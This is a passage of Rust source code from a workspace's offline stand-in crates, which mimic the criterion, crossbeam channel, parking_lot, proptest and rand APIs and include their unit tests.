    window: Duration,
    benchmarks_run: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        let ms = std::env::var("SHIM_BENCH_MS")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(300);
        Criterion {
            filter: None,
            window: Duration::from_millis(ms),
            benchmarks_run: 0,
        }
    }
}

impl Criterion {
    /// Parse the bench CLI: the first non-flag argument is a substring
    /// filter, as with real criterion.
    pub fn configure_from_args(mut self) -> Self {
        self.filter = std::env::args().skip(1).find(|a| !a.starts_with('-'));
        self
    }

    fn enabled(&self, label: &str) -> bool {
        match &self.filter {
            Some(f) => label.contains(f.as_str()),
            None => true,
        }
    }

    fn run_one(
        &mut self,
        label: &str,
        throughput: Option<Throughput>,
        f: impl FnOnce(&mut Bencher),
    ) {
        if !self.enabled(label) {
            return;
        }
        let mut ns = f64::NAN;
        let mut b = Bencher {
            window: self.window,
            result_ns: &mut ns,
        };
        f(&mut b);
        self.benchmarks_run += 1;
        let mut line = format!("{label:<52} time: {}", human_time(ns));
        match throughput {
            Some(Throughput::Elements(n)) => {
                line.push_str(&format!(
                    "   thrpt: {}",
                    human_rate(n as f64 * 1e9 / ns, "elem")
                ));
            }
            Some(Throughput::Bytes(n)) => {
                line.push_str(&format!(
                    "   thrpt: {}",
                    human_rate(n as f64 * 1e9 / ns, "B")
                ));
            }
            None => {}
        }
        println!("{line}");
    }

    pub fn bench_function(
        &mut self,
        id: impl Into<BenchmarkId>,
        f: impl FnOnce(&mut Bencher),
    ) -> &mut Self {
        let id = id.into();
        self.run_one(&id.label, None, f);
        self
    }

    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
            throughput: None,
        }
    }

    pub fn final_summary(&self) {
        println!("\n{} benchmark(s) completed", self.benchmarks_run);
    }
}

/// Mirror of `criterion::BenchmarkGroup`.
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    /// Accepted and ignored: the shim's timer has no sample count.
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    /// Accepted and ignored.
    pub fn measurement_time(&mut self, _d: Duration) -> &mut Self {
        self
    }

    pub fn bench_function(
        &mut self,
        id: impl Into<BenchmarkId>,
        f: impl FnOnce(&mut Bencher),
    ) -> &mut Self {
        let id = id.into();
        let label = format!("{}/{}", self.name, id.label);
        self.criterion.run_one(&label, self.throughput, f);
        self
    }

    pub fn bench_with_input<I: ?Sized>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        f: impl FnOnce(&mut Bencher, &I),
    ) -> &mut Self {
        let label = format!("{}/{}", self.name, id.label);
        self.criterion
            .run_one(&label, self.throughput, |b| f(b, input));
        self
    }

    pub fn finish(self) {}
}

/// Define a group function running each benchmark target in order.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group(c: &mut $crate::Criterion) {
            $($target(c);)+
        }
    };
}

/// Define `main` for a bench binary (`harness = false`).
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            let mut c = $crate::Criterion::default().configure_from_args();
            $($group(&mut c);)+
            c.final_summary();
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    fn quick() -> Criterion {
        Criterion {
            filter: None,
            window: Duration::from_millis(5),
            benchmarks_run: 0,
        }
    }

    #[test]
    fn bench_function_measures() {
        let mut c = quick();
        c.bench_function("noop", |b| b.iter(|| black_box(1 + 1)));
        assert_eq!(c.benchmarks_run, 1);
    }

    #[test]
    fn group_flow_and_filter() {
        let mut c = quick();
        c.filter = Some("keep".to_string());
        {
            let mut g = c.benchmark_group("g");
            g.throughput(Throughput::Elements(10));
            g.sample_size(10);
            g.bench_with_input(BenchmarkId::new("keep", 4), &4u32, |b, &x| {
                b.iter(|| black_box(x * 2))
            });
            g.bench_function("skipped", |b| b.iter(|| black_box(0)));
            g.finish();
        }
        assert_eq!(c.benchmarks_run, 1, "filter must skip non-matching benches");
    }
}
