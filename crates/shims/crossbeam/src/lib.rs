//! Offline stand-in for `crossbeam`, covering `crossbeam::channel`'s
//! bounded MPMC channel as used by the streaming pipeline. Backed by
//! `std::sync::mpsc::sync_channel`, with the receiver wrapped in an
//! `Arc<Mutex<..>>` so it is `Clone` (MPMC) like crossbeam's.

pub mod channel {
    use std::sync::mpsc;
    use std::sync::{Arc, Mutex};

    pub use mpsc::{RecvError, SendError, TryRecvError};

    /// Sending half of a bounded channel. `Clone`-able; `send` blocks
    /// while the channel is full.
    pub struct Sender<T>(mpsc::SyncSender<T>);

    impl<T> Clone for Sender<T> {
        fn clone(&self) -> Self {
            Sender(self.0.clone())
        }
    }

    impl<T> Sender<T> {
        pub fn send(&self, value: T) -> Result<(), SendError<T>> {
            self.0.send(value)
        }
    }

    /// Receiving half. `Clone`-able (competing consumers), iterable until
    /// every sender disconnects.
    pub struct Receiver<T>(Arc<Mutex<mpsc::Receiver<T>>>);

    impl<T> Clone for Receiver<T> {
        fn clone(&self) -> Self {
            Receiver(Arc::clone(&self.0))
        }
    }

    impl<T> Receiver<T> {
        /// Blocking receive. The inner mutex is only held for bounded
        /// slices (timeout polls), so competing consumers and
        /// `try_recv` callers are never blocked behind an idle waiter.
        pub fn recv(&self) -> Result<T, RecvError> {
            loop {
                let polled = {
                    let guard = self.0.lock().unwrap_or_else(|p| p.into_inner());
                    guard.recv_timeout(std::time::Duration::from_millis(1))
                };
                match polled {
                    Ok(v) => return Ok(v),
                    Err(mpsc::RecvTimeoutError::Timeout) => continue,
                    Err(mpsc::RecvTimeoutError::Disconnected) => return Err(RecvError),
                }
            }
        }

        pub fn try_recv(&self) -> Result<T, TryRecvError> {
            let guard = self.0.lock().unwrap_or_else(|p| p.into_inner());
            guard.try_recv()
        }

        pub fn iter(&self) -> Iter<'_, T> {
            Iter(self)
        }
    }

    /// Borrowing iterator: yields until all senders hang up.
    pub struct Iter<'a, T>(&'a Receiver<T>);

    impl<T> Iterator for Iter<'_, T> {
        type Item = T;
        fn next(&mut self) -> Option<T> {
            self.0.recv().ok()
        }
    }

    /// Owning iterator, so `for x in rx` works like crossbeam's.
    pub struct IntoIter<T>(Receiver<T>);

    impl<T> Iterator for IntoIter<T> {
        type Item = T;
        fn next(&mut self) -> Option<T> {
            self.0.recv().ok()
        }
    }

    impl<T> IntoIterator for Receiver<T> {
        type Item = T;
        type IntoIter = IntoIter<T>;
        fn into_iter(self) -> IntoIter<T> {
            IntoIter(self)
        }
    }

    impl<'a, T> IntoIterator for &'a Receiver<T> {
        type Item = T;
        type IntoIter = Iter<'a, T>;
        fn into_iter(self) -> Iter<'a, T> {
            self.iter()
        }
    }

    /// Bounded channel with capacity `cap` (capacity 0 = rendezvous).
    pub fn bounded<T>(cap: usize) -> (Sender<T>, Receiver<T>) {
        let (tx, rx) = mpsc::sync_channel(cap);
        (Sender(tx), Receiver(Arc::new(Mutex::new(rx))))
    }
}

#[cfg(test)]
mod tests {
    use super::channel::bounded;

    #[test]
    fn fifo_through_threads() {
        let (tx, rx) = bounded::<u64>(8);
        let producer = std::thread::spawn(move || {
            for i in 0..1_000 {
                tx.send(i).unwrap();
            }
        });
        let got: Vec<u64> = rx.into_iter().collect();
        producer.join().unwrap();
        assert_eq!(got, (0..1_000).collect::<Vec<_>>());
    }

    #[test]
    fn send_fails_after_receiver_drop() {
        let (tx, rx) = bounded::<u8>(1);
        drop(rx);
        assert!(tx.send(1).is_err());
    }

    #[test]
    fn iteration_ends_on_sender_drop() {
        let (tx, rx) = bounded::<u8>(4);
        tx.send(1).unwrap();
        tx.send(2).unwrap();
        drop(tx);
        let got: Vec<u8> = (&rx).into_iter().collect();
        assert_eq!(got, vec![1, 2]);
    }
}
