//! Offline stand-in for `parking_lot`: `std::sync` primitives wrapped
//! with parking_lot's panic-free, guard-returning API (`lock()` returns
//! the guard directly; a poisoned std lock — only possible if a holder
//! panicked — is treated as fatal, matching parking_lot's absence of
//! poisoning semantics closely enough for this workspace).

use std::sync::{self, LockResult};

fn unpoison<G>(r: LockResult<G>) -> G {
    match r {
        Ok(g) => g,
        // parking_lot has no poisoning: a lock held across a panic is a
        // bug in the holder, not the next acquirer.
        Err(poisoned) => poisoned.into_inner(),
    }
}

pub type MutexGuard<'a, T> = sync::MutexGuard<'a, T>;
pub type RwLockReadGuard<'a, T> = sync::RwLockReadGuard<'a, T>;
pub type RwLockWriteGuard<'a, T> = sync::RwLockWriteGuard<'a, T>;

/// `parking_lot::Mutex` lookalike over `std::sync::Mutex`.
#[derive(Debug, Default)]
pub struct Mutex<T: ?Sized>(sync::Mutex<T>);

impl<T> Mutex<T> {
    pub fn new(value: T) -> Self {
        Mutex(sync::Mutex::new(value))
    }

    pub fn into_inner(self) -> T {
        unpoison(self.0.into_inner())
    }
}

impl<T: ?Sized> Mutex<T> {
    pub fn lock(&self) -> MutexGuard<'_, T> {
        unpoison(self.0.lock())
    }

    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        self.0.try_lock().ok()
    }

    pub fn get_mut(&mut self) -> &mut T {
        unpoison(self.0.get_mut())
    }
}

/// `parking_lot::RwLock` lookalike over `std::sync::RwLock`.
#[derive(Debug, Default)]
pub struct RwLock<T: ?Sized>(sync::RwLock<T>);

impl<T> RwLock<T> {
    pub fn new(value: T) -> Self {
        RwLock(sync::RwLock::new(value))
    }
}

impl<T: ?Sized> RwLock<T> {
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        unpoison(self.0.read())
    }

    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        unpoison(self.0.write())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mutex_basic() {
        let m = Mutex::new(1u32);
        *m.lock() += 1;
        assert_eq!(*m.lock(), 2);
        assert!(m.try_lock().is_some());
    }

    #[test]
    fn rwlock_basic() {
        let l = RwLock::new(vec![1, 2]);
        assert_eq!(l.read().len(), 2);
        l.write().push(3);
        assert_eq!(l.read().len(), 3);
    }

    #[test]
    fn shared_across_threads() {
        use std::sync::Arc;
        let m = Arc::new(Mutex::new(0u64));
        std::thread::scope(|s| {
            for _ in 0..8 {
                let m = Arc::clone(&m);
                s.spawn(move || {
                    for _ in 0..1000 {
                        *m.lock() += 1;
                    }
                });
            }
        });
        assert_eq!(*m.lock(), 8000);
    }
}
