//! Offline stand-in for `proptest`, implementing the subset this
//! workspace's property tests use: the [`proptest!`] macro, the
//! [`Strategy`] trait with `prop_map`/`prop_flat_map`, range and tuple
//! strategies, [`collection::vec`], a small char-class regex string
//! strategy, and the `prop_assert*` macros.
//!
//! Differences from the real crate, deliberate for an offline build:
//! no shrinking (a failing case reports the panic directly), and the
//! RNG is seeded deterministically per test so failures reproduce
//! without a persistence file.

use std::ops::{Range, RangeInclusive};

pub mod prelude {
    pub use crate::strategy::{Just, Map, PropFlatMap};
    pub use crate::{
        prop_assert, prop_assert_eq, prop_assert_ne, proptest, ProptestConfig, Strategy,
    };
}

/// Run configuration; only `cases` is honored.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    pub cases: u32,
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 256 }
    }
}

impl ProptestConfig {
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

/// Deterministic per-test RNG (SplitMix64 over a name hash).
#[derive(Debug, Clone)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    pub fn for_test(name: &str, case: u64) -> TestRng {
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        for b in name.bytes() {
            h = (h ^ b as u64).wrapping_mul(0x0000_0100_0000_01B3);
        }
        TestRng {
            state: h ^ case.wrapping_mul(0x9E37_79B9_7F4A_7C15),
        }
    }

    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub fn unit_f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    pub fn below(&mut self, bound: u64) -> u64 {
        debug_assert!(bound > 0);
        // Widening-multiply bounded sample; bias is irrelevant here.
        ((self.next_u64() as u128 * bound as u128) >> 64) as u64
    }
}

/// A generator of values; mirror of `proptest::strategy::Strategy`.
pub trait Strategy {
    type Value;

    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    fn prop_map<O, F>(self, f: F) -> strategy::Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        strategy::Map { base: self, f }
    }

    fn prop_flat_map<S, F>(self, f: F) -> strategy::PropFlatMap<Self, F>
    where
        Self: Sized,
        S: Strategy,
        F: Fn(Self::Value) -> S,
    {
        strategy::PropFlatMap { base: self, f }
    }
}

pub mod strategy {
    use super::{Strategy, TestRng};

    /// Constant strategy.
    #[derive(Debug, Clone)]
    pub struct Just<T: Clone>(pub T);

    impl<T: Clone> Strategy for Just<T> {
        type Value = T;
        fn generate(&self, _rng: &mut TestRng) -> T {
            self.0.clone()
        }
    }

    /// Output of [`Strategy::prop_map`].
    pub struct Map<S, F> {
        pub(crate) base: S,
        pub(crate) f: F,
    }

    impl<S, F, O> Strategy for Map<S, F>
    where
        S: Strategy,
        F: Fn(S::Value) -> O,
    {
        type Value = O;
        fn generate(&self, rng: &mut TestRng) -> O {
            (self.f)(self.base.generate(rng))
        }
    }

    /// Output of [`Strategy::prop_flat_map`].
    pub struct PropFlatMap<S, F> {
        pub(crate) base: S,
        pub(crate) f: F,
    }

    impl<S, F, S2> Strategy for PropFlatMap<S, F>
    where
        S: Strategy,
        S2: Strategy,
        F: Fn(S::Value) -> S2,
    {
        type Value = S2::Value;
        fn generate(&self, rng: &mut TestRng) -> S2::Value {
            (self.f)(self.base.generate(rng)).generate(rng)
        }
    }
}

// ---- range strategies ----

macro_rules! int_strategies {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty strategy range");
                let span = (self.end as u64).wrapping_sub(self.start as u64);
                self.start.wrapping_add(rng.below(span) as $t)
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                let (start, end) = (*self.start(), *self.end());
                assert!(start <= end, "empty strategy range");
                let span = (end as u64).wrapping_sub(start as u64).wrapping_add(1);
                if span == 0 {
                    return rng.next_u64() as $t;
                }
                start.wrapping_add(rng.below(span) as $t)
            }
        }
    )*};
}
int_strategies!(u8, u16, u32, u64, usize);

macro_rules! signed_strategies {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty strategy range");
                let span = (self.end as i64).wrapping_sub(self.start as i64) as u64;
                (self.start as i64).wrapping_add(rng.below(span) as i64) as $t
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                let (start, end) = (*self.start(), *self.end());
                assert!(start <= end, "empty strategy range");
                let span = (end as i64).wrapping_sub(start as i64) as u64;
                if span == u64::MAX {
                    return rng.next_u64() as $t;
                }
                (start as i64).wrapping_add(rng.below(span + 1) as i64) as $t
            }
        }
    )*};
}
signed_strategies!(i8, i16, i32, i64, isize);

impl Strategy for Range<f64> {
    type Value = f64;
    fn generate(&self, rng: &mut TestRng) -> f64 {
        assert!(self.start < self.end, "empty strategy range");
        self.start + (self.end - self.start) * rng.unit_f64()
    }
}

impl Strategy for Range<f32> {
    type Value = f32;
    fn generate(&self, rng: &mut TestRng) -> f32 {
        assert!(self.start < self.end, "empty strategy range");
        self.start + (self.end - self.start) * rng.unit_f64() as f32
    }
}

// ---- tuple strategies ----

macro_rules! tuple_strategies {
    ($(($($s:ident $idx:tt),+))*) => {$(
        impl<$($s: Strategy),+> Strategy for ($($s,)+) {
            type Value = ($($s::Value,)+);
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.generate(rng),)+)
            }
        }
    )*};
}
tuple_strategies! {
    (A 0, B 1)
    (A 0, B 1, C 2)
    (A 0, B 1, C 2, D 3)
    (A 0, B 1, C 2, D 3, E 4)
}

// ---- string strategy (char-class regex subset) ----

/// `&str` strategies interpret the string as a regex over a small
/// subset: literal chars, `.`, char classes `[a-z0-9_ -]` (ranges and
/// singles; leading/trailing `-` literal), quantifiers `{m}`, `{m,n}`,
/// `*`, `+`, `?` (unbounded forms capped at 8 repeats).
impl Strategy for &str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        let atoms = regex::parse(self)
            .unwrap_or_else(|e| panic!("unsupported regex strategy {self:?}: {e}"));
        let mut out = String::new();
        for atom in &atoms {
            let n = atom.min_rep as u64
                + if atom.max_rep > atom.min_rep {
                    rng.below((atom.max_rep - atom.min_rep + 1) as u64)
                } else {
                    0
                };
            for _ in 0..n {
                out.push(atom.class.sample(rng));
            }
        }
        out
    }
}

mod regex {
    use super::TestRng;

    pub(crate) struct CharClass {
        /// Inclusive char ranges.
        pub ranges: Vec<(char, char)>,
    }

    impl CharClass {
        pub fn sample(&self, rng: &mut TestRng) -> char {
            let total: u64 = self
                .ranges
                .iter()
                .map(|&(a, b)| (b as u64) - (a as u64) + 1)
                .sum();
            let mut k = rng.below(total);
            for &(a, b) in &self.ranges {
                let span = (b as u64) - (a as u64) + 1;
                if k < span {
                    return char::from_u32(a as u32 + k as u32).unwrap_or(a);
                }
                k -= span;
            }
            unreachable!()
        }
    }

    pub(crate) struct Atom {
        pub class: CharClass,
        pub min_rep: u32,
        pub max_rep: u32,
    }

    pub(crate) fn parse(pattern: &str) -> Result<Vec<Atom>, String> {
        let chars: Vec<char> = pattern.chars().collect();
        let mut i = 0;
        let mut atoms = Vec::new();
        while i < chars.len() {
            let class = match chars[i] {
                '[' => {
                    let end = chars[i..]
                        .iter()
                        .position(|&c| c == ']')
                        .ok_or("unterminated char class")?
                        + i;
                    let body = &chars[i + 1..end];
                    i = end + 1;
                    parse_class(body)?
                }
                '.' => {
                    i += 1;
                    CharClass {
                        ranges: vec![(' ', '~')],
                    }
                }
                '\\' => {
                    let c = *chars.get(i + 1).ok_or("dangling escape")?;
                    i += 2;
                    CharClass {
                        ranges: vec![(c, c)],
                    }
                }
                c => {
                    i += 1;
                    CharClass {
                        ranges: vec![(c, c)],
                    }
                }
            };
            let (min_rep, max_rep) = match chars.get(i) {
                Some('{') => {
                    let end = chars[i..]
                        .iter()
                        .position(|&c| c == '}')
                        .ok_or("unterminated quantifier")?
                        + i;
                    let body: String = chars[i + 1..end].iter().collect();
                    i = end + 1;
                    match body.split_once(',') {
                        Some((lo, hi)) => (
                            lo.trim().parse::<u32>().map_err(|e| e.to_string())?,
                            hi.trim().parse::<u32>().map_err(|e| e.to_string())?,
                        ),
                        None => {
                            let n = body.trim().parse::<u32>().map_err(|e| e.to_string())?;
                            (n, n)
                        }
                    }
                }
                Some('*') => {
                    i += 1;
                    (0, 8)
                }
                Some('+') => {
                    i += 1;
                    (1, 8)
                }
                Some('?') => {
                    i += 1;
                    (0, 1)
                }
                _ => (1, 1),
            };
            atoms.push(Atom {
                class,
                min_rep,
                max_rep,
            });
        }
        Ok(atoms)
    }

    fn parse_class(body: &[char]) -> Result<CharClass, String> {
        if body.is_empty() {
            return Err("empty char class".into());
        }
        let mut ranges = Vec::new();
        let mut i = 0;
        while i < body.len() {
            if i + 2 < body.len() && body[i + 1] == '-' {
                if body[i] as u32 > body[i + 2] as u32 {
                    return Err("inverted range".into());
                }
                ranges.push((body[i], body[i + 2]));
                i += 3;
            } else if i + 2 == body.len() && body[i + 1] == '-' {
                // Trailing '-': literal.
                ranges.push((body[i], body[i]));
                ranges.push(('-', '-'));
                i += 2;
            } else {
                ranges.push((body[i], body[i]));
                i += 1;
            }
        }
        Ok(CharClass { ranges })
    }
}

// ---- collections ----

pub mod collection {
    use super::{Range, RangeInclusive, Strategy, TestRng};

    /// Size specification for [`vec`]: exact, `a..b`, or `a..=b`.
    #[derive(Debug, Clone, Copy)]
    pub struct SizeRange {
        min: usize,
        /// Inclusive.
        max: usize,
    }

    impl From<usize> for SizeRange {
        fn from(n: usize) -> SizeRange {
            SizeRange { min: n, max: n }
        }
    }

    impl From<Range<usize>> for SizeRange {
        fn from(r: Range<usize>) -> SizeRange {
            assert!(r.start < r.end, "empty size range");
            SizeRange {
                min: r.start,
                max: r.end - 1,
            }
        }
    }

    impl From<RangeInclusive<usize>> for SizeRange {
        fn from(r: RangeInclusive<usize>) -> SizeRange {
            SizeRange {
                min: *r.start(),
                max: *r.end(),
            }
        }
    }

    /// Strategy for vectors of `element` with a length drawn from `size`.
    pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy {
            element,
            size: size.into(),
        }
    }

    pub struct VecStrategy<S> {
        element: S,
        size: SizeRange,
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let span = (self.size.max - self.size.min + 1) as u64;
            let len = self.size.min + rng.below(span) as usize;
            (0..len).map(|_| self.element.generate(rng)).collect()
        }
    }
}

// ---- macros ----

/// Assert inside a property test (panics on failure, like a failed
/// case without shrinking).
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => { assert!($cond) };
    ($cond:expr, $($fmt:tt)+) => { assert!($cond, $($fmt)+) };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($a:expr, $b:expr) => { assert_eq!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)+) => { assert_eq!($a, $b, $($fmt)+) };
}

#[macro_export]
macro_rules! prop_assert_ne {
    ($a:expr, $b:expr) => { assert_ne!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)+) => { assert_ne!($a, $b, $($fmt)+) };
}

/// Property-test block: each `fn name(pat in strategy, ..) { body }`
/// becomes a `#[test]` running `config.cases` generated cases.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl!{ [$cfg] $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl!{ [$crate::ProptestConfig::default()] $($rest)* }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    ([$cfg:expr]) => {};
    ([$cfg:expr]
     $(#[$meta:meta])*
     fn $name:ident($($arg:pat in $strat:expr),* $(,)?) $body:block
     $($rest:tt)*
    ) => {
        $(#[$meta])*
        fn $name() {
            let config: $crate::ProptestConfig = $cfg;
            for case in 0..config.cases {
                let mut rng = $crate::TestRng::for_test(stringify!($name), case as u64);
                $(let $arg = $crate::Strategy::generate(&($strat), &mut rng);)*
                $body
            }
        }
        $crate::__proptest_impl!{ [$cfg] $($rest)* }
    };
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn ranges_in_bounds(x in 3u64..10, y in 0u8..=255, z in -5i32..5) {
            prop_assert!((3..10).contains(&x));
            let _ = y;
            prop_assert!((-5..5).contains(&z));
        }

        #[test]
        fn vec_lengths(v in crate::collection::vec(0u32..100, 2..7)) {
            prop_assert!(v.len() >= 2 && v.len() < 7, "len {}", v.len());
            prop_assert!(v.iter().all(|&x| x < 100));
        }

        #[test]
        fn string_regex(s in "[ -~]{0,12}") {
            prop_assert!(s.len() <= 12);
            prop_assert!(s.chars().all(|c| (' '..='~').contains(&c)));
        }

        #[test]
        fn tuples_and_maps(pair in (1usize..=3, 10u64..20)) {
            let (a, b) = pair;
            prop_assert!((1..=3).contains(&a));
            prop_assert!((10..20).contains(&b));
        }
    }

    #[test]
    fn flat_map_composes() {
        use crate::{collection, Strategy, TestRng};
        let strat =
            (1usize..=4).prop_flat_map(|n| collection::vec(0u8..10, n).prop_map(move |v| (n, v)));
        let mut rng = TestRng::for_test("flat_map_composes", 1);
        for _ in 0..100 {
            let (n, v) = strat.generate(&mut rng);
            assert_eq!(v.len(), n);
        }
    }

    #[test]
    fn deterministic_given_name_and_case() {
        use crate::{Strategy, TestRng};
        let a = (0u64..1_000_000).generate(&mut TestRng::for_test("t", 7));
        let b = (0u64..1_000_000).generate(&mut TestRng::for_test("t", 7));
        assert_eq!(a, b);
    }
}
