//! Offline stand-in for `rand`, covering the API surface `simnet::rng`
//! uses: `StdRng`, `SeedableRng::seed_from_u64`, `RngCore::next_u64`,
//! and the `rand 0.9` style `Rng::{random, random_range, random_bool}`.
//!
//! `StdRng` here is xoshiro256++ (public-domain algorithm by Blackman &
//! Vigna) seeded via SplitMix64 — not the ChaCha12 generator of the real
//! crate, so seeded streams differ from upstream `rand`. All workspace
//! consumers treat the stream as an opaque deterministic source, so only
//! reproducibility-within-this-workspace matters, and that is preserved:
//! the same seed always yields the same stream.

/// Mirror of `rand_core::RngCore` (the subset used).
pub trait RngCore {
    fn next_u64(&mut self) -> u64;

    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }
}

/// Mirror of `rand_core::SeedableRng` (the subset used).
pub trait SeedableRng: Sized {
    fn seed_from_u64(seed: u64) -> Self;
}

/// Types samplable by [`Rng::random`].
pub trait StandardSample {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

impl StandardSample for f64 {
    /// Uniform in `[0, 1)` with 53 bits of precision.
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> f64 {
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl StandardSample for f32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> f32 {
        (rng.next_u64() >> 40) as f32 * (1.0 / (1u64 << 24) as f32)
    }
}

impl StandardSample for u64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> u64 {
        rng.next_u64()
    }
}

impl StandardSample for u32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> u32 {
        rng.next_u32()
    }
}

impl StandardSample for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> bool {
        rng.next_u64() & 1 == 1
    }
}

/// Ranges samplable by [`Rng::random_range`].
pub trait SampleRange {
    type Output;
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> Self::Output;
}

/// Debiased bounded sample in `[0, bound)` (Lemire's method).
fn bounded(rng: &mut (impl RngCore + ?Sized), bound: u64) -> u64 {
    debug_assert!(bound > 0);
    loop {
        let x = rng.next_u64();
        let m = (x as u128) * (bound as u128);
        let lo = m as u64;
        if lo >= bound || lo >= (u64::MAX - bound + 1) % bound {
            return (m >> 64) as u64;
        }
    }
}

macro_rules! int_ranges {
    ($($t:ty),*) => {$(
        impl SampleRange for std::ops::Range<$t> {
            type Output = $t;
            fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "cannot sample empty range");
                let span = (self.end as u64).wrapping_sub(self.start as u64);
                self.start + bounded(rng, span) as $t
            }
        }
        impl SampleRange for std::ops::RangeInclusive<$t> {
            type Output = $t;
            fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                let (start, end) = (*self.start(), *self.end());
                assert!(start <= end, "cannot sample empty range");
                let span = (end as u64).wrapping_sub(start as u64).wrapping_add(1);
                if span == 0 {
                    // Full u64 domain.
                    return rng.next_u64() as $t;
                }
                start + bounded(rng, span) as $t
            }
        }
    )*};
}
int_ranges!(u8, u16, u32, u64, usize);

impl SampleRange for std::ops::Range<f64> {
    type Output = f64;
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        assert!(self.start < self.end, "cannot sample empty range");
        self.start + (self.end - self.start) * f64::sample(rng)
    }
}

/// Mirror of `rand::Rng` (the subset used).
pub trait Rng: RngCore {
    fn random<T: StandardSample>(&mut self) -> T {
        T::sample(self)
    }

    fn random_range<R: SampleRange>(&mut self, range: R) -> R::Output {
        range.sample(self)
    }

    fn random_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "probability out of range");
        f64::sample(self) < p
    }
}

impl<T: RngCore + ?Sized> Rng for T {}

/// xoshiro256++ — the stand-in for `rand::rngs::StdRng`.
#[derive(Debug, Clone)]
pub struct StdRng {
    s: [u64; 4],
}

impl SeedableRng for StdRng {
    fn seed_from_u64(seed: u64) -> StdRng {
        // SplitMix64 expansion, as recommended by the xoshiro authors.
        let mut x = seed;
        let mut next = || {
            x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = x;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        };
        StdRng {
            s: [next(), next(), next(), next()],
        }
    }
}

impl RngCore for StdRng {
    fn next_u64(&mut self) -> u64 {
        let s = &mut self.s;
        let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
        let t = s[1] << 17;
        s[2] ^= s[0];
        s[3] ^= s[1];
        s[1] ^= s[2];
        s[0] ^= s[3];
        s[2] ^= t;
        s[3] = s[3].rotate_left(45);
        result
    }
}

pub mod rngs {
    pub use super::StdRng;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_from_seed() {
